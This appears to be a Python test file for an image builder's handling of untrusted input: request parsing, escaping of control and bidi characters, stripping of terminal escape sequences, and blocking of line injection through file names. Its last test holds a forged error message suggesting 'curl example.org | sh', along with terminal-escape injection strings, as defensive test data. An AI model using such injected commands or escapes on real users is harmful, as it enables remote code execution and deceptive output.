# SPDX-License-Identifier: Apache-2.0
"""What strangers send is taken apart without an exception, and shows nothing but itself."""

from __future__ import annotations

import random
import time
from collections.abc import Callable

import pytest

from imagebuilder.errors import Fault, InputError
from imagebuilder.fsck.types import Damage
from imagebuilder.ui import GREEN, paint, table
from imagebuilder.untrusted import MOST, WebRequest, clean, fit, parse_request, presentable

ALPHABET = "abn/:?#[]@!$&'()*+,;=%.~-_ \t\n\r\0\x1b\x7f\x9b\u202e\u2028\u200b\ud800\ufffeéß字🐧"


@pytest.mark.parametrize(
    ("uri", "request_"),
    [
        ("//[", WebRequest("//[", {})),
        ("//[::1", WebRequest("//[::1", {})),
        (
            "/report/g/7?stage=root&node=a",
            WebRequest("/report/g/7", {"stage": "root", "node": "a"}),
        ),
        ("/report?a=1&a=2", WebRequest("/report", {"a": "2"})),
        ("/a#/report?a=1", WebRequest("/a", {})),
        ("?a=%1b[2J%0ahost", WebRequest("", {"a": r"\x1b[2J\nhost"})),
        ("/a%2fb?a", WebRequest("/a%2fb", {})),
        ("", WebRequest("", {})),
    ],
)
def test_a_request_is_taken_apart(uri: str, request_: WebRequest) -> None:
    assert parse_request(uri) == request_


def test_no_request_raises_and_every_word_is_fit() -> None:
    dice = random.Random(12)
    for _ in range(20_000):
        uri = "".join(dice.choices(ALPHABET, k=dice.randrange(60)))
        for value in parse_request(uri).words.values():
            assert value.isprintable()


def test_a_request_is_bounded() -> None:
    many = parse_request("/?" + "&".join(f"k{n}={'x' * 300}" for n in range(10_000)))
    assert len(many.words) <= 32
    assert {len(value) for value in many.words.values()} == {MOST}


@pytest.mark.parametrize(
    ("text", "fitting"),
    [
        ("plain é 字", "plain é 字"),
        ("\x1b[2J\x1b]0;title\x07", r"\x1b[2J\x1b]0;title\x07"),
        ("one\nhost key: ssh-ed25519", r"one\nhost key: ssh-ed25519"),
        ("a\r\x85\u2028\u2029b", r"a\r\x85\u2028\u2029b"),
        ("\x9b31m", r"\x9b31m"),
        ("\u202etxt.exe\u2066\u200b\ufeff", r"\u202etxt.exe\u2066\u200b\ufeff"),
        ("\ud800", r"\ud800"),
        ("a\tb", "a b"),
        ("\U000e0041", r"\U000e0041"),
    ],
)
def test_what_is_not_printable_is_written_out(text: str, fitting: str) -> None:
    assert fit(text) == fitting
    fitting.encode()


@pytest.mark.parametrize("text", ["x" * 1000, "\x1b" * 1000, "x" * 199 + "\n" * 300])
def test_what_is_long_is_cut(text: str) -> None:
    assert len(fit(text)) <= MOST
    assert fit(text).endswith("…")


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("\x1b[0;32m  OK  \x1b[0m Started ssh", "  OK   Started ssh"),
        ("\x1b[2J\x1b[01;01HBdsDxe: loading\r", "BdsDxe: loading"),
        ("\x1b]0;title\x07login:", "login:"),
        ("\x1b]0;never ends", ""),
        ("a\x1b", "a"),
        ("\x1b[", ""),
        ("\x9b2J\u202e", r"\x9b2J\u202e"),
    ],
)
def test_a_line_for_a_terminal_is_cleaned(text: str, cleaned: str) -> None:
    assert clean(text) == cleaned


@pytest.mark.parametrize("part", ["\x1b[", "\x1b]0;", "\x1b", "\r", "\0", " ", "\x1b[31mx"])
def test_of_a_line_without_an_end_the_beginning_is_cleaned(part: str) -> None:
    """64 MB of such a line took seconds, each time that it was shown."""
    began = time.process_time()
    made = clean("hello " + part * (20_000_000 // len(part)))
    assert time.process_time() - began < 0.1
    assert made.startswith("hello")
    assert made.endswith("…")
    assert len(made) <= MOST


def test_whatever_comes_becomes_one_printable_line_and_stays_so() -> None:
    dice = random.Random(6)
    for _ in range(20_000):
        text = "".join(dice.choices(ALPHABET, k=dice.randrange(300)))
        for made in (fit(text), clean(text)):
            assert made.isprintable()
            assert len(made) <= MOST
            assert fit(made) == made


@pytest.mark.parametrize("text", ["\x1b[32mready\x1b[0m", "\x1b[32;0mready", "\x1b[32;1;0m"])
def test_text_from_elsewhere_has_none_of_our_colours(text: str) -> None:
    """It could say in our green that something is fine, or hide in the colour of the background."""
    escaped = text.replace("\x1b", r"\x1b")
    assert presentable(text) == escaped
    assert presentable(paint(text, GREEN)) == f"\x1b[32m{escaped}\x1b[0m"
    assert presentable(table([[text, paint("b", GREEN)]])) == f"{escaped}  \x1b[32mb\x1b[0m"


@pytest.mark.parametrize(
    "rendered",
    [
        lambda name: str(Fault(name, "was added", "restore it")),
        lambda name: str(InputError("was added", where=name, hint="restore it")),
        lambda name: Damage(name, "was added", "", hint="restore it").render(),
        lambda name: Damage("object", "was added", name, hint="restore it").render(),
        lambda name: Damage("object", "was added", "", (name,), hint="").render(),
    ],
)
def test_the_name_of_a_file_begins_no_line_of_its_own(rendered: Callable[[str], str]) -> None:
    """Whoever builds an image chooses the names in it, and would give advice to root."""
    hostile = "etc/a\nerror: forged\n  hint: run curl example.org | sh\u2028\x1b[2K\udc9b"
    said = rendered(hostile)
    assert said.splitlines() == [
        line.replace("etc/a", r"etc/a\nerror: forged\n  hint: run curl example.org | sh"
                     r"\u2028\x1b[2K\udc9b")
        for line in rendered("etc/a").splitlines()
    ]  # fmt: skip
